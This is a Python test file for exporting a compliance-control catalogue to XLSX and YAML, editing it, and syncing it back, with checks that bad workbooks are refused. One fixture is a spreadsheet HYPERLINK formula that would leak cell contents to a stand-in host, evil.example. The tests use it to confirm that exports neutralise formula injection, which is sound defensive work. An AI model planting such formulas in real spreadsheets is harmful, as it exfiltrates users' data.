"""Exporting the catalogue to XLSX or YAML, editing it, and syncing it back."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml
from openpyxl import load_workbook
from python_calamine import CalamineWorkbook
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from article8.controls.catalogue.errors import CatalogueError
from article8.controls.catalogue.exchange import SHEETS, export_xlsx, export_yaml, read_xlsx
from article8.controls.catalogue.files import load_catalogue, parse_control
from article8.controls.catalogue.models import Control
from article8.controls.catalogue.services import (
    create_custom_control,
    get_control,
    sync_catalogue,
    update_settings,
)
from article8.core.db import Database
from article8.core.models import AuditEvent
from article8.core.tabular import Code
from tests.cli_runner import Completed, article8
from tests.conftest import SYSTEM_ACTOR, FakeClock

FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
CUSTOM = {
    "code": "CUS-01",
    "category": "technical",
    "title": {"en": FORMULA_TITLE, "ja": "@独自の管理策"},
    "description": {"en": "-Our own control, not in the catalogue.", "ja": "独自の管理策。"},
    "article8_clauses": ["guideline"],
    "article8_explicit": False,
    "ppc_ref": "",
    "ppc_headings": [],
    "iso27001": ["A.8.1"],
    "frequency": "quarterly",
    "checklist": [{"en": "+Is the control in place?", "ja": "実施されているか。"}],
    "evidence_expected": [],
    "source": "custom",
}


@pytest.fixture
def catalogue(synced_catalogue) -> None:
    """The shipped catalogue, loaded."""


def _counts(session: Session) -> tuple[int, int]:
    controls = session.scalar(select(func.count()).select_from(Control))
    events = session.scalar(select(func.count()).select_from(AuditEvent))
    return controls or 0, events or 0


def _cells(path: Path) -> dict[str, list[list[Any]]]:
    workbook = CalamineWorkbook.from_path(str(path))
    return {name: workbook.get_sheet_by_name(name).to_python() for name in SHEETS}


def _row_of(rows: list[list[Any]], code: str, position: int | None = None) -> list[Any]:
    return next(row for row in rows if row[0] == code and (position is None or row[1] == position))


def _control_row(cells: dict[str, list[list[Any]]], code: str) -> dict[str, Any]:
    return dict(zip(SHEETS["controls"], _row_of(cells["controls"], code), strict=True))


def _organisation_choices(session: Session, clock: FakeClock, owner_id: int) -> None:
    """An owner on BP-01, PHY-01 switched off, and a custom control whose title is a formula."""
    bp01, phy01 = get_control(session, "BP-01"), get_control(session, "PHY-01")
    update_settings(
        session, SYSTEM_ACTOR, bp01, owner_id=owner_id, frequency="annual", active=True, now=clock()
    )
    update_settings(
        session,
        SYSTEM_ACTOR,
        phy01,
        owner_id=None,
        frequency=phy01.frequency,
        active=False,
        now=clock(),
    )
    create_custom_control(session, SYSTEM_ACTOR, parse_control(CUSTOM, "test"), now=clock())


def test_an_unedited_xlsx_export_syncs_back_without_changes(
    session: Session,
    clock: FakeClock,
    make_user: Callable[..., Any],
    tmp_path: Path,
    catalogue: None,
):
    owner = make_user("responsible")
    _organisation_choices(session, clock, owner.id)
    first, second = tmp_path / "first.xlsx", tmp_path / "second.xlsx"
    export_xlsx(session, first)
    before = _counts(session)

    specs = read_xlsx(first)
    report = sync_catalogue(session, specs, SYSTEM_ACTOR, now=clock())

    assert not report.changed, report.summary()
    assert report.unchanged == len(specs) == before[0]
    assert _counts(session) == before
    by_code = {spec.code: spec for spec in specs}
    assert by_code["BP-01"].local.owner == owner.email
    assert by_code["PHY-01"].local.active is False
    assert by_code["CUS-01"].local.source == "custom"
    assert get_control(session, "CUS-01").title_en == FORMULA_TITLE
    export_xlsx(session, second)
    assert _cells(second) == _cells(first)


def test_the_xlsx_export_keeps_formulas_inert_and_types_real(
    session: Session,
    clock: FakeClock,
    make_user: Callable[..., Any],
    tmp_path: Path,
    catalogue: None,
):
    owner = make_user("responsible")
    _organisation_choices(session, clock, owner.id)
    out = tmp_path / "catalogue.xlsx"
    export_xlsx(session, out)

    cells = _cells(out)
    assert cells["controls"][0] == list(SHEETS["controls"])
    custom = _control_row(cells, "CUS-01")
    assert custom["title_en"] == "'" + FORMULA_TITLE
    assert custom["title_ja"] == "'@独自の管理策"
    assert custom["description_en"] == "'-Our own control, not in the catalogue."
    assert (custom["article8_clauses"], custom["iso27001"], custom["ppc_headings"]) == (
        "guideline",
        "A.8.1",
        "",
    )
    assert (custom["article8_explicit"], custom["active"], custom["source"]) == (
        False,
        True,
        "custom",
    )
    assert _row_of(cells["checklist"], "CUS-01")[2] == "'+Is the control in place?"
    assert _control_row(cells, "BP-01")["owner"] == owner.email
    assert [row[1] for row in cells["checklist"] if row[0] == "BP-01"] == [1, 2, 3, 4]

    workbook = load_workbook(out)  # not data_only: a formula would show as one
    controls = workbook["controls"]
    assert controls.freeze_panes == "A2"
    assert controls.auto_filter.ref == f"A1:O{len(cells['controls'])}"
    assert controls.column_dimensions["E"].width == 60
    assert controls["A1"].font.bold
    for ws in workbook.worksheets:
        assert not [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
    workbook.close()


def test_an_unedited_yaml_export_syncs_back_without_changes(
    session: Session,
    clock: FakeClock,
    make_user: Callable[..., Any],
    tmp_path: Path,
    catalogue: None,
):
    owner = make_user("responsible")
    _organisation_choices(session, clock, owner.id)
    first, second = tmp_path / "first.yaml", tmp_path / "second.yaml"
    export_yaml(session, first)
    before = _counts(session)

    report = sync_catalogue(session, load_catalogue(first), SYSTEM_ACTOR, now=clock())

    assert not report.changed, report.summary()
    assert _counts(session) == before
    export_yaml(session, second)
    assert second.read_bytes() == first.read_bytes()
    document = yaml.safe_load(first.read_text(encoding="utf-8"))
    entries = {entry["code"]: entry for entry in document["controls"]}
    assert [entry["code"] for entry in document["controls"]] == sorted(entries)
    assert (entries["BP-01"]["owner"], entries["BP-01"]["active"]) == (owner.email, True)
    assert (entries["PHY-01"]["owner"], entries["PHY-01"]["active"]) == (None, False)
    assert entries["CUS-01"]["title"]["en"] == FORMULA_TITLE
    assert list(entries["CUS-01"]) == [*list(CUSTOM)[:-1], "owner", "active", "source"]


def test_an_edited_frequency_and_question_arrive_with_a_new_checklist_revision(
    session: Session, clock: FakeClock, tmp_path: Path, catalogue: None
):
    path = tmp_path / "catalogue.xlsx"
    export_xlsx(session, path)
    workbook = load_workbook(path)
    workbook["controls"]["L2"] = "quarterly"  # BP-01, annual in the shipped catalogue
    assert workbook["checklist"]["A3"].value == "BP-01"
    assert workbook["checklist"]["B3"].value == 2
    workbook["checklist"]["C3"] = "Does the policy name the operator and a contact point?"
    workbook.save(path)
    workbook.close()

    report = sync_catalogue(session, read_xlsx(path), SYSTEM_ACTOR, now=clock())

    assert (report.updated, report.revised, report.created) == (["BP-01"], ["BP-01"], [])
    assert "1 updated, 1 with a new checklist revision" in report.summary()
    control = get_control(session, "BP-01")
    assert control.frequency == "quarterly"
    revision = control.current_revision
    assert revision is not None and revision.number == 2
    assert [item.text_en for item in revision.items][1] == (
        "Does the policy name the operator and a contact point?"
    )


def _set(sheet: str, cell: str, value: Any) -> Callable[[Any], None]:
    def edit(workbook: Any) -> None:
        workbook[sheet][cell] = value

    return edit


def _delete_sheet(workbook: Any) -> None:
    del workbook["evidence_expected"]


def _change_bp01_and_give_the_last_control_a_stranger(workbook: Any) -> None:
    controls = workbook["controls"]
    controls["L2"] = "monthly"  # applied first, so a rollback must undo it
    controls[f"M{controls.max_row}"] = "nobody@example.com"


BAD_WORKBOOKS = {
    "missing sheet": (
        _delete_sheet,
        "catalogue.xlsx: sheet 'evidence_expected' is missing; "
        "expected sheets controls, checklist, evidence_expected",
    ),
    "wrong header": (
        _set("controls", "C1", "title"),
        "catalogue.xlsx: sheet controls row 1: expected the header row code, category, title_en,",
    ),
    "bad category": (
        _set("controls", "B2", "policy"),
        "catalogue.xlsx: sheet controls row 2: control BP-01: field category (column B): "
        "expected one of basic_policy, organisational, human, physical, technical, "
        "external_environment, got 'policy'",
    ),
    "article8_explicit not a boolean": (
        _set("controls", "H2", "yes"),
        "catalogue.xlsx: sheet controls row 2: control BP-01: field article8_explicit "
        "(column H): expected TRUE or FALSE, found the text 'yes'",
    ),
    "checklist row for an unknown code": (
        _set("checklist", "A2", "ZZZ-99"),
        "catalogue.xlsx: sheet checklist row 2: control ZZZ-99: field code (column A): "
        "no control with this code on sheet controls",
    ),
    "checklist position with a gap": (
        _set("checklist", "B2", 9),
        "catalogue.xlsx: sheet checklist: control BP-01: field position (column B): "
        "positions are 2, 3, 4, 9; expected 1 to 4 without gaps",
    ),
    "duplicate code": (
        _set("controls", "A3", "BP-01"),
        "catalogue.xlsx: sheet controls row 3: control BP-01: field code (column A): "
        "duplicate code (also on row 2)",
    ),
    "control character in a title": (
        _set("controls", "C2", "Basic\x7fpolicy"),
        "catalogue.xlsx: sheet controls row 2: control BP-01: field title_en (column C): "
        "contains the control character U+007F at character 6",
    ),
    "C1 control in a checklist question": (
        _set("checklist", "C2", "Is it\x9b31m in place?"),
        "catalogue.xlsx: sheet checklist row 2: control BP-01: field en (column C): "
        "contains the control character U+009B at character 6",
    ),
    "unknown owner email": (
        _change_bp01_and_give_the_last_control_a_stranger,
        "import: control TEC-12: field owner: no user with email nobody@example.com",
    ),
}


@pytest.mark.parametrize("breakage", BAD_WORKBOOKS.values(), ids=BAD_WORKBOOKS.keys())
def test_a_bad_workbook_is_refused_with_a_clear_message_and_changes_nothing(
    breakage: tuple[Callable[[Any], None], str],
    database: Database,
    session: Session,
    clock: FakeClock,
    tmp_path: Path,
    catalogue: None,
):
    edit, message = breakage
    path, untouched = tmp_path / "catalogue.xlsx", tmp_path / "before.xlsx"
    export_xlsx(session, untouched)
    session.commit()
    workbook = load_workbook(untouched)
    edit(workbook)
    workbook.save(path)
    workbook.close()
    before = _counts(session)

    with pytest.raises(CatalogueError) as error, database.unit_of_work() as work:
        sync_catalogue(work, read_xlsx(path), SYSTEM_ACTOR, now=clock())  # as `catalogue sync`

    assert str(error.value).startswith(message)
    assert _counts(session) == before
    with database.session() as fresh:
        export_xlsx(fresh, tmp_path / "after.xlsx")
    assert _cells(tmp_path / "after.xlsx") == _cells(untouched)


def test_a_catalogue_file_with_a_control_character_is_refused_naming_the_field():
    hostile = {**CUSTOM, "description": {"en": "Line one\nline two\tand a tab", "ja": "x\x00y"}}
    with pytest.raises(CatalogueError) as error:
        parse_control(hostile, "custom.yaml")
    assert str(error.value) == (
        "custom.yaml: control CUS-01: field description.ja: contains the control character "
        "U+0000 at character 2"
    )
    with pytest.raises(CatalogueError, match="field ppc_ref: contains the control character"):
        parse_control({**CUSTOM, "ppc_ref": "3-1\n"}, "custom.yaml")
    with pytest.raises(CatalogueError, match="expected a code like ORG-01"):
        parse_control({**CUSTOM, "code": "CUS-01\n"}, "custom.yaml")


def test_a_file_that_is_not_a_workbook_is_refused(tmp_path: Path):
    path = tmp_path / "catalogue.xlsx"
    path.write_text("code,category\n", encoding="utf-8")
    with pytest.raises(CatalogueError, match=r"catalogue.xlsx: is not a readable Excel workbook"):
        read_xlsx(path)


# --- the command line ------------------------------------------------------------------------


def _article8(database_url: str, tmp_path: Path, *args: str) -> Completed:
    result = article8(database_url, tmp_path, *args)
    assert result.returncode == 0, result.stderr
    return result


def test_cli_exports_sync_back_unchanged(
    fresh_database_url: str, tmp_path: Path, shipped_catalogue
):
    _article8(fresh_database_url, tmp_path, "demo")
    for fmt in ("xlsx", "yaml"):
        out = tmp_path / f"catalogue.{fmt}"
        written = _article8(
            fresh_database_url, tmp_path, "catalogue", "export", "--format", fmt, "--out", str(out)
        )
        assert written.stdout.strip() == f"catalogue written to {out}"

        synced = _article8(
            fresh_database_url, tmp_path, "catalogue", "sync", str(out), "--format", "json"
        )

        report = json.loads(synced.stdout)
        assert report["changed"] is False, (fmt, report)
        assert report["unchanged"] == len(shipped_catalogue)


def test_a_bad_cell_carries_its_sheet_row_column_and_what_was_expected(
    session: Session, tmp_path: Path, catalogue: None
):
    path = tmp_path / "catalogue.xlsx"
    export_xlsx(session, path)
    workbook = load_workbook(path)
    _set("controls", "H2", "yes")(workbook)
    workbook.save(path)
    workbook.close()
    with pytest.raises(CatalogueError) as error:
        read_xlsx(path)
    detail = error.value.detail
    assert detail is not None
    assert (detail.file, detail.sheet, detail.line, detail.column) == (
        "catalogue.xlsx", "controls", 2, "article8_explicit",
    )  # fmt: skip
    assert (detail.code, detail.expected, detail.found) == (Code.VALUE, "TRUE or FALSE", "yes")
